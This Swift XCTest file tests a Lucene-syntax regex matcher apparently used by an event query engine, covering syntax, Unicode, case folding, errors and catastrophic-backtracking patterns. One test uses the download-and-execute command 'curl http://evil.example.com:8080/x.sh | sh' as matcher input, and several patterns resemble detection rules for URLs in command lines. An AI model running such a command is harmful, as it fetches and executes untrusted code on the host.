@testable import EQL
import XCTest

/// The linear-time Lucene regex matcher behind `regex` / `regex~`: syntax, anchoring, Unicode,
/// case folding, errors, hostile patterns. `RegexDifferentialTests` checks it against a reference.
final class RegexMatcherTests: XCTestCase {
    private func matcher(_ pattern: String, insensitive: Bool = false) throws -> RegexMatcher {
        try RegexMatcher(lucene: pattern, caseInsensitive: insensitive)
    }

    /// Asserts which of `texts` match, both through the DFA and by NFA simulation.
    private func check(_ pattern: String, insensitive: Bool = false, matches yes: [String], rejects no: [String],
                       file: StaticString = #filePath, line: UInt = #line) {
        do {
            let m = try matcher(pattern, insensitive: insensitive)
            for text in yes {
                XCTAssertTrue(m.matches(text), "\(pattern) should match \(text.debugDescription)", file: file, line: line)
                XCTAssertTrue(m.simulate(text).matched, "NFA: \(pattern) ~ \(text.debugDescription)", file: file, line: line)
            }
            for text in no {
                XCTAssertFalse(m.matches(text), "\(pattern) should not match \(text.debugDescription)", file: file, line: line)
                XCTAssertFalse(m.simulate(text).matched, "NFA: \(pattern) !~ \(text.debugDescription)", file: file, line: line)
            }
        } catch {
            XCTFail("\(pattern): \(error)", file: file, line: line)
        }
    }

    func testOperators() {
        check("a.c", matches: ["abc", "a.c", "a\nc"], rejects: ["ac", "abbc"])
        check("ab?c", matches: ["ac", "abc"], rejects: ["abbc"])
        check("ab*c", matches: ["ac", "abbbc"], rejects: ["adc"])
        check("ab+c", matches: ["abc", "abbc"], rejects: ["ac"])
        check("a{3}", matches: ["aaa"], rejects: ["aa", "aaaa"])
        check("a{2,}", matches: ["aa", "aaaaaa"], rejects: ["a"])
        check("a{2,3}", matches: ["aa", "aaa"], rejects: ["a", "aaaa"])
        check("a{0}b", matches: ["b"], rejects: ["ab"])
        check("cat|dog||", matches: ["cat", "dog", "|"], rejects: ["", "catdog"])
        check("(ab)+|x", matches: ["ab", "abab", "x"], rejects: ["aba", "abx"])
        check("a()b", matches: ["ab"], rejects: ["a b"])
        check("[abc]+", matches: ["abcba"], rejects: ["abd", ""])
        check("[a-c0-2]", matches: ["b", "1"], rejects: ["d", "3"])
        check("[^a-c]", matches: ["d", "é", "\n"], rejects: ["a", "c", ""])
        check("[]a]", matches: ["]", "a"], rejects: ["b"])
        check("[^-]*", matches: ["abc", ""], rejects: ["a-b"])
        check(#"[a\-z]+"#, matches: ["a-z"], rejects: ["b"])
        check(#"a\.b\*\\"#, matches: [#"a.b*\"#], rejects: ["axb*\\"])
        check(#""a.b*"x"#, matches: ["a.b*x"], rejects: ["axbx", "aabbx"])
        check("a@z", matches: ["az", "a-anything-z"], rejects: ["a-y"])
        check("#", matches: [], rejects: ["", "#"])
        check("a|#", matches: ["a"], rejects: [""])
        check("x<8-12>", matches: ["x8", "x12", "x010", "x0009"], rejects: ["x7", "x13", "x", "x1a"])
        check("<01-10>", matches: ["01", "09", "10"], rejects: ["1", "11", "010"])
        check("<9-3>", matches: ["3", "9"], rejects: ["2", "10"])
        check("<0-0>", matches: ["0"], rejects: ["", "1"])
        check("<0-100>", matches: ["0", "00", "100", "55"], rejects: ["101", ""])
    }

    func testLiteralQuirksOfLuceneSyntax() {
        check("^a$", matches: ["^a$"], rejects: ["a"])
        check("*a", matches: ["*a"], rejects: ["a", "aa"])
        check("a|*", matches: ["a", "*"], rejects: [""])
        check("}]-", matches: ["}]-"], rejects: [])
    }

    func testPredefinedClassesAreASCII() {
        check(#"\d+"#, matches: ["0123456789"], rejects: ["٣", "a"])
        check(#"\w+"#, matches: ["a_Z9"], rejects: ["é", "-"])
        check(#"\s"#, matches: [" ", "\t", "\n", "\r"], rejects: ["\u{A0}", "x"])
        check(#"\D\S\W"#, matches: ["a-é", "é.."], rejects: ["1-.", "a .", "a-b"])
        check(#"[\d_]+"#, matches: ["1_2"], rejects: ["a"])
        check(#"[\d\D]"#, matches: ["1", "x", "\u{10FFFF}"], rejects: ["", "12"])
        check(#"a[^\d\D]|b"#, matches: ["b"], rejects: ["a", "a1", "ax"])
        check(#"/[a-z0-9\s_\-\\./]+\s"#, matches: ["/usr/bin/sshd ", "/tmp/x.y\\z\t"], rejects: ["/usr/bin/sshd"])
    }

    func testAnchoredToTheWholeValue() {
        check("abc", matches: ["abc"], rejects: ["xabc", "abcx", "ab", ""])
        check(".*abc.*", matches: ["abc", "xxabcxx"], rejects: ["ab c"])
        check("", matches: [""], rejects: ["a"])
        check(".*[0-9]{1,3}\\.[0-9]{1,3}\\.[0-9]{1,3}\\.[0-9]{1,3}.*",
              matches: ["curl http://10.0.0.1/x", "1.2.3.4"], rejects: ["curl http://example.com/x", "1.2.3"])
    }

    func testUnicodeScalarsNotGraphemes() {
        check("e..", matches: ["e\u{301}x"], rejects: ["éx"])
        check("é", matches: ["é"], rejects: ["e\u{301}", "É"])
        check("[α-ω]+🙂", matches: ["λμ🙂"], rejects: ["λA🙂", "λμ"])
        check(".", matches: ["🙂", "\u{301}"], rejects: ["ab", ""])
        check("[^a]", matches: ["🙂"], rejects: ["a"])
    }

    func testCaseInsensitive() {
        check("ABC", insensitive: true, matches: ["abc", "AbC"], rejects: ["abd"])
        check("[a-c]+", insensitive: true, matches: ["ABCabc"], rejects: ["d"])
        check("[^a]", insensitive: true, matches: ["b"], rejects: ["a", "A"])
        check("été", insensitive: true, matches: ["ÉTÉ", "éTé"], rejects: ["ete"])
        check("[À-Ö]", insensitive: true, matches: ["à", "Ö", "ö"], rejects: ["a"])
        check(#""QuOtEd"\w"#, insensitive: true, matches: ["QUOTEDx", "quoted_"], rejects: ["quote"])
        check("ABC", matches: ["ABC"], rejects: ["abc"])
        check(#"/var/run/\w+\.(pid|lock|reboot)"#, insensitive: true, matches: ["/VAR/RUN/x.PID"], rejects: ["/var/run/.pid"])
    }

    func testErrorsSayWhatAndWhere() {
        let cases: [(String, String)] = [
            ("a{x}", "expected a number in the repetition at position 2"),
            ("a{", "expected a number in the repetition at position 2"),
            ("a{2", "expected \"}\" to close the repetition opened at position 1"),
            ("a{3,2}", "repetition {3,2} has its minimum above its maximum at position 1"),
            ("a{1000000}", "repetition count above 100000 at position 1"),
            ("[abc", "unterminated character class opened at position 0"),
            ("x[", "unterminated character class opened at position 1"),
            ("[a-", "unterminated character class opened at position 0"),
            ("[z-a]", "invalid range in character class: start is after end at position 1"),
            ("(ab", "expected \")\" to close the group opened at position 0"),
            ("ab)", "unexpected \")\" with no group open at position 2"),
            ("a|", "pattern ends where an expression is expected at position 2"),
            ("ab\\", "pattern ends after a backslash at position 3"),
            ("\"ab", "unterminated quoted string opened at position 0"),
            ("<1-2", "unterminated numeric interval opened at position 0"),
            ("<a-2>", "numeric interval must be <min-max> with decimal numbers at position 0"),
            ("~a", "complement \"~\" is not supported (escape it as \\~ to match it literally) at position 0"),
            ("a&b", "intersection \"&\" is not supported (escape it as \\& to match it literally) at position 1"),
        ]
        for (pattern, what) in cases {
            XCTAssertThrowsError(try matcher(pattern), pattern) { error in
                XCTAssertEqual((error as? RegexSyntaxError)?.message, "invalid regular expression \"\(pattern)\": \(what)")
            }
        }
        XCTAssertNoThrow(try matcher(#"a\~b\&c"#))
        let deepGroups = String(repeating: "(", count: 100_000) + "a" + String(repeating: ")", count: 100_000)
        XCTAssertThrowsError(try matcher(deepGroups)) { error in
            XCTAssertEqual((error as? RegexSyntaxError)?.message, "invalid regular expression \"" + String(repeating: "(", count: 200)
                           + "…\": groups and quantifiers nested more than 100 deep at position 100", "long patterns are cut short")
        }
        XCTAssertThrowsError(try matcher("a" + String(repeating: "?", count: 100_000)))
        XCTAssertTrue(try matcher(String(repeating: "(", count: 50) + "a??" + String(repeating: ")", count: 50)).matches("a"))
    }

    func testAbsurdSizesAreRejectedNotBuilt() {
        for pattern in ["a{100000}", "(a{1000}){1000}", "((a{100}){100}){100}", "[a-z]{30000}", "(((a*){999}){999}){999}"] {
            XCTAssertThrowsError(try matcher(pattern), pattern) { error in
                XCTAssertEqual((error as? RegexSyntaxError)?.message,
                               "invalid regular expression \"\(pattern)\": too large "
                               + "(the automaton is limited to 20000 states and 16777216 character-class entries)")
            }
        }
        XCTAssertNoThrow(try matcher("[a-z0-9_]{1,254}"))
        // Thousands of distinct characters need a class × set table beyond the cap.
        let distinct = { (n: Int) in String(String.UnicodeScalarView((0..<n).map { Unicode.Scalar(0x4E00 + UInt32($0))! })) }
        XCTAssertThrowsError(try matcher(distinct(5_000))) { error in
            XCTAssertTrue((error as? RegexSyntaxError)?.message.contains("…\": too large (") ?? false, "\(error)")
        }
        XCTAssertTrue(try matcher(distinct(500)).matches(distinct(500)))
    }

    /// Catastrophic-backtracking shapes run in one pass: NFA work is bounded by input × automaton size.
    func testPathologicalPatternsStayLinear() throws {
        let n = 10_000
        let text = String(repeating: "a", count: n)
        let cases = [("(a*)*b", text + "b"), ("(a|aa)*c", text + "c"), ("(a|a)*b", text + "b"),
                     ("(.*a){12}b", text + "b"), ("(a?){50}a{50}b", String(repeating: "a", count: 60) + "b")]
        for (pattern, accepted) in cases {
            let m = try matcher(pattern)
            XCTAssertFalse(m.matches(text), pattern)
            XCTAssertTrue(m.matches(accepted), pattern)
            let (matched, steps) = m.simulate(text)
            XCTAssertFalse(matched, pattern)
            XCTAssertLessThanOrEqual(steps, (n + 1) * m.automatonSize, pattern)
            XCTAssertTrue(m.simulate(accepted).matched, pattern)
        }
    }

    /// A pattern whose DFA would blow up falls back to simulation and still answers.
    func testDFABlowUpFallsBackToSimulation() throws {
        let m = try matcher(".*a.{14}")
        XCTAssertFalse(m.isDeterministic, "2^15 DFA states exceed the cap")
        XCTAssertTrue(m.matches("xxa" + String(repeating: "b", count: 14)))
        XCTAssertFalse(m.matches("xxa" + String(repeating: "b", count: 15)))
        let blowUp = try matcher("(.*[a-m].{12}[n-z]){3}")
        XCTAssertFalse(blowUp.isDeterministic)
        let block = "xxa" + String(repeating: "x", count: 12) + "n"
        XCTAssertTrue(blowUp.matches(String(repeating: block, count: 3)))
        XCTAssertFalse(blowUp.matches(String(repeating: block, count: 2)))
        XCTAssertTrue(try matcher(".*[0-9]{1,3}\\.[0-9]{1,3}\\.[0-9]{1,3}\\.[0-9]{1,3}:[0-9]{1,5}.*").isDeterministic)
    }

    /// The construction budget is sized from the corpus: its costliest patterns (12,135 and 14,675 steps of the
    /// 60,000) must stay fully deterministic, and a hostile one must stop at the budget.
    func testCorpusPatternsFitTheConstructionBudget() throws {
        let corpus = [
            try matcher(#".*[0-9]{1,3}\.[0-9]{1,3}\.[0-9]{1,3}\.[0-9]{1,3}(:[0-9]{1,5})?\/[^ ]+.*"#),
            try RegexMatcher(lucene: #"\.[a-z0-9_\-][a-z0-9_\-\.]{1,254}"#, caseInsensitive: true),
        ]
        for m in corpus {
            XCTAssertTrue(m.isDeterministic)
            XCTAssertLessThan(m.constructionSteps, RegexDFA.maxConstructionSteps / 4)
        }
        let hostile = try matcher("(.*[a-m].{12}[n-z]){3}")
        XCTAssertFalse(hostile.isDeterministic)
        XCTAssertLessThanOrEqual(hostile.constructionSteps,
                                 RegexDFA.maxConstructionSteps + RegexDFA.stepsPerTransition + hostile.automatonSize)
    }

    /// Found by the fuzzer (target eql): `.*` before a long run of wildcards keeps hundreds of NFA nodes live in
    /// every DFA state, and testing them per character class was outside the construction budget, so construction
    /// ran past it (the fuzzer's 1.8 KB pattern: 1.7 times the work). The budget now counts them; matching still answers.
    func testDFAConstructionWorkIsBoundedWithManyLiveNodes() throws {
        let body = String(repeating: "a.b.c.d.e.f.g.h.i.j.k.l.m.n.o.p.q.r.s.t.u.v.w.x.y.z.", count: 30)
        let m = try matcher(".*" + body)
        XCTAssertFalse(m.isDeterministic)
        XCTAssertLessThanOrEqual(m.constructionSteps, RegexDFA.maxConstructionSteps + 2 * m.automatonSize)
        let match = String(body.map { $0 == "." ? "Z" : $0 })
        XCTAssertTrue(m.matches("zz" + match))
        XCTAssertFalse(m.matches("zz" + match.dropLast()))
    }

    /// `regex~` lowercases İ to two scalars (i + U+0307), as `like~` does; a DFA cut short between
    /// them hands the second one to the NFA simulation.
    func testMultiScalarLowercaseAcrossTheDFAHandOver() throws {
        for states in [1, 2, 3, RegexDFA.maxStates] {
            let m = try RegexMatcher(lucene: "xİy", caseInsensitive: true, dfaStates: states)
            XCTAssertTrue(m.matches("XİY"), "\(states)")
            XCTAssertTrue(m.matches("xi\u{307}y"), "\(states)")
            XCTAssertFalse(m.matches("xiy"), "\(states)")
            XCTAssertFalse(m.matches("xİ"), "\(states)")
        }
        XCTAssertFalse(try RegexMatcher(lucene: "xİy", caseInsensitive: true, dfaStates: 2).isDeterministic)
    }

    /// Matchers are shared between threads: concurrent use gives the same answers.
    func testConcurrentUse() throws {
        let m = try matcher(".*[A-Za-z0-9][A-Za-z0-9\\-]*(\\.[A-Za-z0-9][A-Za-z0-9\\-]*)+(:[0-9]{1,5})?\\/[^ ]+.*")
        let texts = ["curl http://evil.example.com:8080/x.sh | sh", "ls -la", "wget a.b/c"]
        let expected = texts.map(m.matches)
        XCTAssertEqual(expected, [true, false, true])
        DispatchQueue.concurrentPerform(iterations: 8) { _ in
            for _ in 0..<200 { XCTAssertEqual(texts.map(m.matches), expected) }
        }
    }
}
